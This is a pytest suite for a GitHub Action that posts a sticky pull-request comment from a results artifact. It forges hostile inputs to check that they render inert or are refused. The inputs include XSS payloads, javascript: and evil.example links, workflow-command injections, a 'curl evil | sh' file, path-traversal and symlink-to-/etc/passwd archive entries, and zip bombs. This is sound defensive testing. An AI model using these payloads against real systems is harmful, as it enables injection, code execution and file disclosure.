"""The pull-request comment (comment/action.yml, report/comment.py, comment/sticky.py).

The artifact is hostile: these tests forge it. A results file carrying
Markdown, HTML, mentions, the hidden marker, code fences and `|` must render
inert (checked on the HTML cmark-gfm makes of it, as GitHub renders comments);
an invalid one, and artifacts that are too big, hold other files, symlinks,
directories or paths, are refused with a clear message. The job's side of
GitHub (event, pull request number, artifact download, one sticky comment) runs
as a subprocess against a fake REST API on 127.0.0.1; tests/test_comment_act.py
runs the same under act.
"""

from __future__ import annotations

import html
import io
import json
import os
import random
import re
import stat
import subprocess
import sys
import warnings
import zipfile
from pathlib import Path

import pytest

from act_helpers import FAKE_TOKEN, FakeGitHub, workflow_run_payload
from hostile import render_gfm, summary_problems
from rag_corpus_check.report import comment as rc
from rag_corpus_check.report.comment import (
    MARKER,
    MAX_ARTIFACT_BYTES,
    MAX_COMMENT_BYTES,
    ArtifactError,
    RunInfo,
    load_results,
    read_artifact,
    render,
    render_missing,
    render_refused,
)

ROOT = Path(__file__).resolve().parents[1]
EXAMPLE = ROOT / "tests" / "fixtures" / "comment" / "results-example.json"
LAUNCH = ROOT / "comment" / "launch.py"
PR_HEAD = "9f8e7d6c5b4a39281706f5e4d3c2b1a098765432"  # the fixture's event_head_sha
RUN_URL = "https://github.com/acme/knowledge-base/actions/runs/555"
RUN = RunInfo(555, RUN_URL, PR_HEAD, "failure")

# What a forged results file carries in every string the comment could show.
PAYLOADS = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "@acme/security-team please approve",
    "cc @mallory",
    MARKER,
    "```\n# injected heading\n```",
    "a|b|c",
    "P@5 | 1.0000 | ≥ 0.3000 | ✅",
    "[click](https://evil.example/x)",
    "![img](https://evil.example/i.png)",
    "https://evil.example/autolink www.evil.example x@evil.example",
    "::add-mask::secret",
    "##[error]fake",
    "line\n| injected | row |",
    "\u202eevil\u2066",
    "<details open><summary>x</summary>",
    "</td></tr></table><h1>x</h1>",
]


def example() -> dict:
    return json.loads(EXAMPLE.read_text(encoding="utf-8"))


def zipped(files: dict[str, bytes | str], modes: dict[str, int] | None = None) -> bytes:
    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names are one of the cases
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
            for name, data in files.items():
                info = zipfile.ZipInfo(name.split("#dup")[0])
                info.external_attr = (modes or {}).get(name, stat.S_IFREG | 0o644) << 16
                info.compress_type = zipfile.ZIP_DEFLATED
                z.writestr(info, data)
    return buf.getvalue()


def artifact(results: dict | bytes | None = None, **extra: bytes | str) -> bytes:
    raw = results if isinstance(results, bytes) else json.dumps(results or example()).encode()
    return zipped({"results.json": raw, "summary.md": "# the check's summary\n", **extra})


def visible_problems(body: str) -> list[str]:
    """summary_problems, less the links the comment makes itself (the run's page)."""
    allowed = {"<a>", f"<a href={RUN_URL!r}>"}
    return [p for p in summary_problems(body) if p not in allowed]


def mentions(body: str) -> list[str]:
    """@names GitHub would turn into mentions: in the rendered text, outside code."""
    text = re.sub(r"<code>.*?</code>", "", render_gfm(body), flags=re.S)
    text = html.unescape(re.sub(r"<[^>]+>", "", text))
    return re.findall(r"(?<![\w`])@[A-Za-z0-9][\w/-]*", text)


def forged() -> dict:
    """The example with a payload in every string field the comment reads."""
    r = example()
    p = iter(PAYLOADS * 4)
    for q in r["queries"][:8]:
        q["query_id"] = next(p)
        q["values"][next(p)] = 0.0
    r["queries"].append({"query_id": "@team|`x`", "status": "ok", "values": {"nDCG@5": -1.0}})
    for t in r["thresholds"]:
        t["measure"], t["note"] = next(p), next(p)
    r["metrics"] = {next(p): 0.5 for _ in range(4)} | {"nDCG@5": 0.1, next(p): 10**4000}
    r["thresholds"].append({"measure": "nDCG@5", "limit": 10**4000, "value": None, "passed": None})
    r["comparison"]["base_sha"] = "[x](javascript:alert(1))"
    r["comparison"]["deltas"] = [{"measure": next(p), "base": "<b>x</b>", "head": [1], "delta": {"a": 1},
                                  "p_value": "@team"} for _ in range(3)]
    r["comparison"]["views"] = [{"gold": "head", "paired_questions": 14, "questions": [], "deltas": r["comparison"][
        "deltas"] + [{"measure": "nDCG@5", "base": None, "head": None, "delta": 10**4000, "conclusive": next(p),
                      "if_unjudged_relevant": None, "p_value": 10**4000}]}]
    r["comparison"]["questions"] = [{"query_id": "@team|`x`", "measure": "nDCG@5", "delta": "<i>x</i>"}]
    r["comparison"]["changed_relevant"] = [{"doc_id": next(p), "change": "deleted", "questions": [
        {"query_id": next(p), "grade": "<b>", "base_position": 10**4000, "head_position": "@team", "measure": next(p),
         "base": None, "head": None, "delta": -1.0}]}]
    r["comparison"]["removed"] = [next(p), 5]
    r["comparison"]["removed_effect"] = {next(p): {"head": "x", "with_removed": 10**4000, "delta": [1], "removed": 1}}
    r["problems"] = [{"kind": next(p), "severity": "warning", "file": next(p), "line": 1, "id": next(p),
                      "message": next(p)} for _ in range(5)]
    r["problems_dropped"] = {next(p): 3}
    r["slices"] = {"left_out": 0, "max_slices": 50, "slices": [
        {"name": next(p), "questions": 1, "in_means": 1, "metrics": {}, "gated": True, "passed": False, "views": [],
         "thresholds": [{"measure": next(p), "limit": 0.5, "value": 0.1, "passed": False, "note": next(p)}]}]}
    r["provenance"]["commit"] = "<a href='https://evil.example'>"
    r["provenance"]["event_head_sha"] = "@team"
    return r


# ---------------------------------------------------------------- rendering


def test_the_example_renders_with_verdict_commit_rules_metrics_deltas_and_worst_questions():
    body = render(load_results(EXAMPLE.read_bytes()), RUN)
    assert body.startswith(MARKER + "\n### ❌ run failed (GitHub) · rag-corpus-check: ❌ quality gate failed\n")
    assert f"PR head `{PR_HEAD}`" in body and "checked out `5e0c1a9b7d3f2e4a6c8b0d1f3e5a7c9b1d3f5e7a`" in body
    assert "rules: `base`" in body and "15 questions" in body
    assert f"run [555]({RUN_URL}) concluded `failure`" in body
    assert "| `nDCG@5` | 0.3792 | ≥ 0.75 | ❌ |" in body
    # Why, as the job summary says it: the measure a code span (no mention inside one), the rest escaped.
    assert "**The gate failed because:**\n\n- `P@5` is 0\\.1857, the threshold is 0\\.3\n" in body
    assert "- `nDCG@5` is 0\\.3792, the threshold is 0\\.75" in body
    assert "Other means: `Judged@5` 0.8857" in body
    assert "#### Against the base `3c2b1a098765432f9f8e7d6c5b4a39281706f5e4`" in body
    assert "**Judged by each revision's own gold set, over the questions in both: 14 questions**" in body
    assert "| `R@5` | 0.8929 | 0.3929 | -0.5000 | — | — | 0.003 |" in body
    assert "#### Worst questions by nDCG@5" in body
    assert "| q01 | 0.0000 | -0.7985 |  |" in body
    assert "Problems" not in body and "WARNING" not in body
    assert visible_problems(body) == [] and mentions(body) == []
    assert body.count(MARKER) == 1


def _block(markdown: str, heading: str) -> str:
    """The text under ``heading`` up to the next heading (or the fold)."""
    return re.split(r"\n#+ |\n<details>", markdown.split(heading + "\n\n", 1)[1], maxsplit=1)[0]


def test_the_comment_and_the_job_summary_render_the_thresholds_the_same_way(repo, tmp_path, capsys):
    """One renderer of the results file: the job summary's table of thresholds
    and the comment's (rebuilt from results.json) are the same text, and so is
    why the gate failed."""
    from conftest import check

    config = repo / ".rag-corpus-check.yml"
    config.write_text(config.read_text().replace("P@5: 0.30", "P@5: 0.99"))
    code, _, results, summary = check(tmp_path, capsys, "--no-github")
    assert code == 1 and results["gate_reasons"][0].startswith("`P@5` is ")
    body = render(load_results(json.dumps(results).encode()), RUN)
    ours = _block(body, "#### Metrics vs thresholds").split("\n\n")[:3]  # the table, why, the reasons
    assert ours == _block(summary, "### Metrics vs thresholds").split("\n\n")[:3]
    ours = "\n\n".join(ours)
    assert "| `P@5` | 0.3571 | ≥ 0.99 | ❌ |" in ours and "**The gate failed because:**" in ours


def test_the_comment_lists_the_first_problems_as_the_job_summary_does():
    r = example()
    r["problems"] = [{"kind": "schema", "severity": "warning", "file": "gold.yaml", "line": i + 1, "id": f"q{i}",
                      "message": "a warning"} for i in range(25)]
    r["counts"]["warnings"] = 25
    body = render(load_results(json.dumps(r).encode()), RUN)
    problems = _block(body, "#### Input problems (0 errors, 25 warnings)")
    assert "| warning | schema | gold\\.yaml&#58;1 | q0 | a warning |" in problems
    assert problems.count("| warning |") == 10 and "…and 15 more problems (see the job summary)." in problems


def test_forged_values_render_inert():
    body = render(load_results(json.dumps(forged()).encode()), RUN)
    assert visible_problems(body) == [], body
    assert mentions(body) == [], body
    assert body.count(MARKER) == 1 and body.startswith(MARKER)
    rendered = render_gfm(body)
    assert "<pre" not in rendered and "<img" not in rendered and "<script" not in rendered
    assert not re.search(r'href="(?!https://github\.com/acme/knowledge-base/actions/runs/555")', rendered)
    for line in body.splitlines():
        assert not line.lstrip().startswith("::") and "##[" not in line, line
    assert body.count("| slice ") == 1 and "#### Other rules of the gate" in body
    # Values the schema leaves untyped, and numbers too big to show, are "?".
    assert "| ? | ? | ? | — | — | ? |" in body and "≥ ?" in body
    # The artifact names another head than the run: said, not hidden.
    assert "> [!WARNING]\n> the results name another pull-request head" in body


def test_the_comment_stays_small_whatever_the_results_hold():
    r = example()
    big = "@|`<" * 100
    r["thresholds"] = [{"measure": big + str(i), "limit": 0.5, "value": 0.1, "passed": False, "note": big}
                       for i in range(1000)]
    r["metrics"] = {big + str(i): 0.1 for i in range(1000)} | {"nDCG@5": 0.1}
    r["queries"] = [{"query_id": big + str(i), "status": "ok", "values": {"nDCG@5": 0.0, big: 1.0}}
                    for i in range(200)]
    r["comparison"]["deltas"] = [{"measure": big, "base": 1, "head": 0, "delta": -1, "p_value": 0.5}] * 1000
    r["comparison"]["views"] = [{"gold": "base", "paired_questions": 1, "deltas": r["comparison"]["deltas"],
                                 "questions": []}] * 2
    r["problems"] = [{"kind": big + str(i), "severity": "error", "file": None, "line": None, "id": None,
                      "message": big} for i in range(1000)]
    raw = json.dumps(r).encode()
    assert len(raw) < MAX_ARTIFACT_BYTES
    body = render(load_results(raw), RUN)
    assert len(body.encode()) <= MAX_COMMENT_BYTES
    assert "…and 990 more thresholds" in body and "…and 990 more measures" in body
    assert visible_problems(body) == [] and mentions(body) == []


def test_sections_that_do_not_fit_are_left_out_with_a_note(monkeypatch):
    monkeypatch.setattr(rc, "MAX_COMMENT_BYTES", 1000)
    body = render(example(), RUN)
    assert len(body.encode()) <= 1000
    assert "Some sections were left out" in body and body.rstrip().endswith("every detail._")


def test_refused_and_missing_comments_name_the_run_and_escape_the_reason():
    body = render_refused("the artifact holds an unexpected file (<img src=x>|@team)", RUN)
    assert body.startswith(MARKER + "\n### ❌ run failed (GitHub) · rag-corpus-check: ⚠️ the results artifact was refused")
    assert visible_problems(body) == [] and mentions(body) == []
    body = render_missing(RUN)
    assert "uploaded no results artifact" in body and PR_HEAD in body


# ---------------------------------------------------------------- results.json refused


def test_invalid_results_are_refused_with_the_field_named():
    r = example()
    del r["queries"]
    with pytest.raises(ArtifactError, match=r"results\.json does not match the results schema: .*`queries`"):
        load_results(json.dumps(r).encode())
    r = example()
    r["verdict"] = "pass <b>"
    with pytest.raises(ArtifactError, match=r"verdict: must be one of pass, fail"):
        load_results(json.dumps(r).encode())


def test_without_jsonschema_the_stdlib_check_names_the_field(monkeypatch):
    """The comment job's Python has no jsonschema: the quick check decides alone."""
    def no_jsonschema(*args, **kwargs):
        raise ImportError("jsonschema")

    monkeypatch.setattr(rc, "errors", no_jsonschema)
    r = example()
    r["thresholds"][0]["passed"] = "yes"
    with pytest.raises(ArtifactError, match=r"`thresholds` is not as the schema says"):
        load_results(json.dumps(r).encode())
    del r["provenance"]
    with pytest.raises(ArtifactError, match=r"`provenance` is missing"):
        load_results(json.dumps(r).encode())
    with pytest.raises(ArtifactError, match=r"not an object of the kinds the schema allows"):
        load_results(b"[1, 2]")
    assert load_results(EXAMPLE.read_bytes())["verdict"] == "fail"


@pytest.mark.parametrize(
    "raw, message",
    [
        (b"{not json", r"invalid JSON: Expecting property name enclosed in double quotes"),
        (b'{"verdict": "pass", "verdict": "fail"}', r"duplicate key `verdict` in one object"),
        (b'{"a": NaN}', r"NaN is not valid JSON"),
        (b'{"a": 1e400}', r"a number is too large to represent"),
        (b"[" * 100_000 + b"]" * 100_000, r"JSON nested too deeply"),
        (b'{"a": 1' + b"0" * 5000 + b"}", r"an integer has too many digits"),
        (b"\xff\xfe{}", r"is not UTF-8"),
        (b"", r"invalid JSON: Expecting value"),
    ],
    ids=["syntax", "duplicate-key", "nan", "overflow", "deep", "long-int", "not-utf8", "empty"],
)
def test_results_that_are_not_strict_json_are_refused(raw, message):
    with pytest.raises(ArtifactError, match=message):
        load_results(raw)


# ---------------------------------------------------------------- the artifact refused


def test_the_artifact_as_the_check_job_uploads_it_is_read():
    files = read_artifact(artifact())
    assert set(files) == {"results.json", "summary.md"}
    assert read_artifact(zipped({"results.json": b"{}"})) == {"results.json": b"{}"}


@pytest.mark.parametrize(
    "data, message",
    [
        (b"x" * (MAX_ARTIFACT_BYTES + 1), r"the artifact is over 5242880 bytes"),
        (zipped({"results.json": b" " * (MAX_ARTIFACT_BYTES + 1)}), r"unpacks to over 5242880 bytes"),
        (zipped({"results.json": b" " * (3 << 20), "summary.md": b" " * (3 << 20)}), r"unpacks to over"),
        (artifact(**{"evil.sh": "curl evil | sh"}), r"holds an unexpected file \(evil\.sh\)"),
        (artifact(**{".github/workflows/x.yml": "on: push"}), r"holds a directory or a path"),
        (artifact(**{"dir/": ""}), r"holds a directory or a path \(dir/\)"),
        (zipped({"../results.json": b"{}"}), r"holds a directory or a path \(\.\./results\.json\)"),
        (zipped({"/etc/results.json": b"{}"}), r"holds a directory or a path"),
        (zipped({"sub\\results.json": b"{}"}), r"holds a directory or a path"),
        (zipped({"results.json": b"/etc/passwd"}, {"results.json": stat.S_IFLNK | 0o777}),
         r"results\.json in the artifact is not a regular file"),
        (zipped({"results.json": b"{}", "summary.md": b"x"}, {"summary.md": stat.S_IFDIR | 0o755}),
         r"summary\.md in the artifact is not a regular file"),
        (zipped({"results.json": b"{}", "results.json#dup": b"{}"}), r"holds the same file twice"),
        (zipped({"summary.md": b"# all green"}), r"holds no results\.json"),
        (zipped({"results.json\n::error::x": b"{}"}), r"unexpected file \(results\.json\\x0a:\\:error:\\:x\)"),
        (b"PK\x03\x04 not really a zip", r"not a readable zip archive"),
        (b"", r"not a readable zip archive"),
    ],
    ids=["oversize", "zip-bomb", "two-files-over", "extra-file", "nested-path", "directory", "traversal",
         "absolute", "backslash", "symlink", "dir-mode", "duplicate", "no-results", "newline-name",
         "not-zip", "empty"],
)
def test_hostile_artifacts_are_refused(data, message):
    with pytest.raises(ArtifactError, match=message) as info:
        read_artifact(data)
    assert "\n" not in str(info.value)


# ---------------------------------------------------------------- the job, against a fake GitHub API


@pytest.fixture
def fake():
    server = FakeGitHub()
    yield server
    server.close()


def run_job(fake: FakeGitHub, tmp_path: Path, payload: dict, event: str = "workflow_run",
            token: str = FAKE_TOKEN, workflow_path: str = ".github/workflows/rag-corpus-check.yml",
            ) -> tuple[subprocess.CompletedProcess, dict]:
    """comment/launch.py as the action runs it (python -I, from $RUNNER_TEMP)."""
    event_path, output = tmp_path / "event.json", tmp_path / "output.txt"
    event_path.write_text(json.dumps(payload), encoding="utf-8")
    output.write_text("", encoding="utf-8")
    env = {"PATH": os.environ.get("PATH", ""), "GITHUB_EVENT_NAME": event, "GITHUB_EVENT_PATH": str(event_path),
           "GITHUB_REPOSITORY": fake.repo, "GITHUB_API_URL": fake.url, "GITHUB_SERVER_URL": "https://github.com",
           "GITHUB_OUTPUT": str(output), "RAG_COMMENT_TOKEN": token, "ARTIFACT_NAME": "rag-corpus-check",
           "WORKFLOW_PATH": workflow_path}
    done = subprocess.run([sys.executable, "-I", str(LAUNCH)], env=env, cwd=tmp_path, capture_output=True,
                          text=True, timeout=120, check=False)
    outputs = dict(line.split("=", 1) for line in output.read_text().splitlines())
    return done, outputs


def bot_comments(fake: FakeGitHub) -> list[dict]:
    return [c for c in fake.comments if c["user"]["type"] == "Bot"]


def test_one_comment_is_created_then_updated(fake, tmp_path):
    planted = fake.add_comment(MARKER + "\nplanted by a user", {"login": "mallory", "type": "User"})
    fake.add_artifact(555, artifact())
    done, out = run_job(fake, tmp_path, workflow_run_payload(PR_HEAD))
    assert done.returncode == 0, done.stdout + done.stderr
    assert out == {"result": "created", "comment-id": str(bot_comments(fake)[0]["id"]), "pr-number": "7",
                   "artifact": "ok"}
    assert "quality gate failed" in bot_comments(fake)[0]["body"]
    # The blob store got no token; every API call had it.
    assert [r["auth"] for r in fake.requests if r["path"].startswith("/blob/")] == [None]
    assert all(r["auth"] == f"Bearer {FAKE_TOKEN}" for r in fake.requests if r["path"].startswith("/repos/"))

    passing = example() | {"verdict": "pass", "exit_code": 0}
    fake.add_artifact(556, artifact(passing))
    done, out = run_job(fake, tmp_path, workflow_run_payload(PR_HEAD, run_id=556, conclusion="success"))
    assert done.returncode == 0, done.stdout + done.stderr
    assert out["result"] == "updated" and len(bot_comments(fake)) == 1
    assert bot_comments(fake)[0]["body"].startswith(MARKER + "\n### ✅ run succeeded (GitHub) · rag-corpus-check: ✅ passed")
    assert len(fake.calls("POST")) == 1 and len(fake.calls("PATCH")) == 1
    assert planted["body"] == MARKER + "\nplanted by a user"  # a user's comment with the marker is not ours


def test_a_fork_pull_request_is_found_by_its_head_commit(fake, tmp_path):
    """workflow_run.pull_requests is empty for a fork's branch."""
    fake.pulls = [{"number": 12, "head": {"sha": "0" * 40}, "_head": "fork-owner:main"},
                  {"number": 13, "head": {"sha": PR_HEAD}, "_head": "fork-owner:main"}]
    fake.add_artifact(555, artifact())
    payload = workflow_run_payload(PR_HEAD, pr_number=None, head_owner="fork-owner", head_branch="main")
    done, out = run_job(fake, tmp_path, payload)
    assert done.returncode == 0, done.stdout + done.stderr
    assert out["pr-number"] == "13" and out["result"] == "created"
    assert fake.calls("GET", "/repos/acme/knowledge-base/pulls")[0]["query"]["head"] == ["fork-owner:main"]


def test_a_pull_request_of_another_repository_in_the_payload_is_not_used(fake, tmp_path):
    payload = workflow_run_payload(PR_HEAD)
    payload["workflow_run"]["pull_requests"][0]["base"]["repo"]["id"] = 1  # the fork's own PR #7
    done, out = run_job(fake, tmp_path, payload)
    assert done.returncode == 0 and out == {"result": "skipped"}, done.stdout
    assert "::notice title=rag-corpus-check::run 555 was not for an open pull request" in done.stdout
    assert not fake.calls("POST") and not fake.calls("GET", "/repos/acme/knowledge-base/actions")


def test_a_run_not_for_a_pull_request_is_skipped(fake, tmp_path):
    payload = workflow_run_payload(PR_HEAD)
    payload["workflow_run"]["event"] = "push"
    done, out = run_job(fake, tmp_path, payload)
    assert done.returncode == 0 and out == {"result": "skipped"}
    assert fake.requests == []


def test_no_artifact_says_so_in_the_comment(fake, tmp_path):
    done, out = run_job(fake, tmp_path, workflow_run_payload(PR_HEAD, conclusion="cancelled"))
    assert done.returncode == 0 and out["artifact"] == "missing", done.stdout
    assert "concluded `cancelled`) uploaded no results artifact" in fake.comments[0]["body"]


def test_an_artifact_too_big_is_refused_before_it_is_downloaded(fake, tmp_path):
    fake.add_artifact(555, artifact(), size=MAX_ARTIFACT_BYTES + 1)
    done, out = run_job(fake, tmp_path, workflow_run_payload(PR_HEAD))
    assert done.returncode == 1 and out["artifact"] == "refused"
    assert "::error title=rag-corpus-check::the results artifact was refused: the artifact is 5242881 bytes" \
        in done.stdout
    assert not fake.calls("GET", "/blob/") and not fake.calls("GET", "/repos/acme/knowledge-base/actions/artifacts")
    assert "the results artifact was refused" in fake.comments[0]["body"]


def test_an_artifact_bigger_than_it_says_is_cut_and_refused(fake, tmp_path):
    fake.add_artifact(555, artifact(**{"summary.md": random.Random(0).randbytes(MAX_ARTIFACT_BYTES)}), size=1000)
    done, out = run_job(fake, tmp_path, workflow_run_payload(PR_HEAD))
    assert done.returncode == 1 and out["artifact"] == "refused"
    assert "the artifact is over 5242880 bytes" in done.stdout


def test_a_forged_artifact_is_refused_in_the_comment_without_its_content(fake, tmp_path):
    fake.add_artifact(555, artifact(**{"evil.md": "@team <img src=x> " + MARKER}))
    done, out = run_job(fake, tmp_path, workflow_run_payload(PR_HEAD))
    assert done.returncode == 1 and out["artifact"] == "refused"
    body = fake.comments[0]["body"]
    assert "unexpected file \\(evil\\.md\\)" in body and "@team" not in body and body.count(MARKER) == 1


@pytest.mark.parametrize(
    "change, message",
    [
        ({"GITHUB_EVENT_NAME": "pull_request_target"}, "this action runs on `workflow_run`"),
        ({"token": "wrong"}, "GET /repos/acme/knowledge-base/actions/runs/555/artifacts answered HTTP 401"),
    ],
    ids=["wrong-event", "bad-token"],
)
def test_job_errors_fail_with_one_annotation(fake, tmp_path, change, message):
    fake.add_artifact(555, artifact())
    done, _ = run_job(fake, tmp_path, workflow_run_payload(PR_HEAD),
                      event=change.get("GITHUB_EVENT_NAME", "workflow_run"), token=change.get("token", FAKE_TOKEN))
    assert done.returncode == 1
    assert f"::error title=rag-corpus-check::rag-corpus-check comment: {message}" in done.stdout, done.stdout
    assert "Traceback" not in done.stdout + done.stderr


def test_a_comparison_entry_whose_id_is_not_text_is_passed_over():
    """The schema leaves comparison.questions open: an entry with a list for its
    id crashed the comment (an unhashable key), leaving an older comment up."""
    results = example()
    results["comparison"]["questions"] = [
        {"query_id": ["a"], "measure": "nDCG@5", "delta": 0.1},
        {"query_id": {"b": 1}, "measure": "nDCG@5", "delta": 0.2},
    ] + [q for q in results["comparison"]["questions"] if isinstance(q, dict)]
    body = render(load_results(read_artifact(artifact(results))["results.json"]), RUN)
    assert body.startswith(MARKER) and "Worst questions by" in body


def test_a_results_file_the_comment_cannot_show_is_refused_not_a_crash(fake, tmp_path, monkeypatch):
    """The job's safety net: any value of a shape the comment cannot show
    makes a refused comment and a failed step, never a traceback (which would
    leave the last comment, maybe for an older head, on the pull request)."""
    sys.path.insert(0, str(ROOT / "comment"))
    import sticky

    def crash(results, run):
        raise TypeError("unhashable type: 'list'")

    monkeypatch.setattr(sticky, "render", crash)
    fake.add_artifact(555, artifact())
    api = sticky.Api(fake.url, "acme/knowledge-base", FAKE_TOKEN)
    body, outcome = sticky.comment_body(api, RUN, "rag-corpus-check")
    assert outcome == "refused" and "holds a value the comment cannot show \\(TypeError\\)" in body


# ---------------------------------------------------------------- which run, and GitHub's word first


@pytest.mark.parametrize("path", [
    ".github/workflows/evil.yml",  # a workflow a pull request added, with the same `name:`
    ".github/workflows/rag-corpus-check.yml@evil.yml",  # no suffix is stripped
    ".github/workflows/Rag-Corpus-Check.yml",
    None,  # no path in the event
], ids=["other-file", "suffix", "case", "missing"])
def test_a_run_of_another_workflow_file_posts_nothing(fake, tmp_path, path):
    """The comment workflow is triggered by workflow *name*: a pull request can
    add a workflow with the same `name:` that uploads a forged passing
    results.json. Only runs of the `workflow-path` file are commented on."""
    fake.add_artifact(555, artifact(example() | {"verdict": "pass", "exit_code": 0}))
    payload = workflow_run_payload(PR_HEAD, conclusion="success")
    if path is None:
        del payload["workflow_run"]["path"]
    else:
        payload["workflow_run"]["path"] = path
    done, out = run_job(fake, tmp_path, payload)
    assert done.returncode == 1 and out == {"result": "wrong-workflow"}, done.stdout + done.stderr
    assert fake.comments == [] and fake.requests == []  # not even the artifact is fetched
    assert "::error title=rag-corpus-check::run 555: the run's workflow file is " in done.stdout
    assert "not `.github/workflows/rag-corpus-check.yml` (input `workflow-path`)" in done.stdout


def test_a_workflow_path_input_that_is_no_workflow_file_fails(fake, tmp_path):
    fake.add_artifact(555, artifact())
    done, out = run_job(fake, tmp_path, workflow_run_payload(PR_HEAD), workflow_path="rag-corpus-check")
    assert done.returncode == 1 and "input `workflow-path` must name the check's workflow file" in done.stdout
    assert fake.comments == [] and fake.requests == []


@pytest.mark.parametrize("conclusion, lead", [
    ("success", "### ✅ run succeeded (GitHub) · rag-corpus-check: ✅ passed"),
    ("failure", "### ❌ run failed (GitHub) · rag-corpus-check: ✅ passed"),
    ("cancelled", "### ⚪ run cancelled (GitHub) · rag-corpus-check: ✅ passed"),
    (None, "### ❔ run conclusion unknown (GitHub) · rag-corpus-check: ✅ passed"),
])
def test_the_title_leads_with_githubs_conclusion_of_the_run(conclusion, lead):
    """The results file is the run's own word; the conclusion is GitHub's."""
    results = load_results(json.dumps(example() | {"verdict": "pass", "exit_code": 0}).encode())
    body = render(results, RunInfo(555, RUN_URL, PR_HEAD, conclusion))
    assert body.startswith(f"{MARKER}\n{lead}\n"), body.splitlines()[:2]
    if conclusion == "failure":
        assert "the results say `pass` but the run did not succeed" in body


def test_an_override_is_in_the_title_with_the_changes_under_it():
    results = example() | {"verdict": "pass", "exit_code": 0, "rules_source": "head-override"}
    results["comparison"]["rules"] = {
        "source": "head-override", "violated": False, "override_reason": "lowered for the <b>@team</b> migration",
        "changes": ["threshold `nDCG@5` lowered: 0.75 → 0", "@team | <img src=x>"], "loosened": []}
    body = render(load_results(json.dumps(results).encode()), RunInfo(555, RUN_URL, PR_HEAD, "success"))
    title = body.splitlines()[1]
    assert title == ("### ✅ run succeeded (GitHub) · rag-corpus-check: ✅ passed · ⚠️ rules overridden by this PR "
                     "(`head-override`)")
    assert "> [!CAUTION]" in body and "gated on its own config's thresholds and conventions, not the base's" in body
    # The change's code span renders as code; the hostile one is escaped as before.
    assert "> - threshold `nDCG@5` lowered&#58; 0\\.75 → 0\n> - &#64;&#8203;team \\| &lt;img" in body
    assert visible_problems(body) == [] and mentions(body) == [] and "<b>" not in body
    plain = render(load_results(json.dumps(example()).encode()), RUN)
    assert "overridden" not in plain and "CAUTION" not in plain


def test_the_warnings_about_trust_are_under_the_title_escaped_and_bounded():
    """A `trust` problem (the check lists them first, never cut) is shown
    under the title, before any figure; a forged file with a thousand of them
    still makes a small comment."""
    results = example() | {"verdict": "pass", "exit_code": 0}
    results["problems"] = [
        {"kind": "consistency", "severity": "warning", "file": "run.jsonl", "line": 3, "id": "x",
         "message": "question is in the run but not in gold.yaml"},
        {"kind": "trust", "severity": "warning", "file": "run.jsonl", "line": None, "id": None,
         "message": "the committed run's rankings changed in this PR: @team <img src=x>"}]
    body = render(load_results(json.dumps(results).encode()), RunInfo(555, RUN_URL, PR_HEAD, "success"))
    head = body.split("####", 1)[0]
    assert "> [!WARNING]\n> What this check took on trust, or whose rules it applied:\n> - the committed run" in head
    assert "question is in the run" not in head
    assert visible_problems(body) == [] and mentions(body) == [] and "<img" not in body
    results["problems"] = [{"kind": "trust", "severity": "warning", "file": None, "line": None, "id": None,
                            "message": "@|`<" * 200} for _ in range(1000)]
    body = render(load_results(json.dumps(results).encode()), RUN)
    assert len(body.encode()) <= MAX_COMMENT_BYTES and "> - …and 990 more (see the job summary)" in body
    assert visible_problems(body) == [] and mentions(body) == []
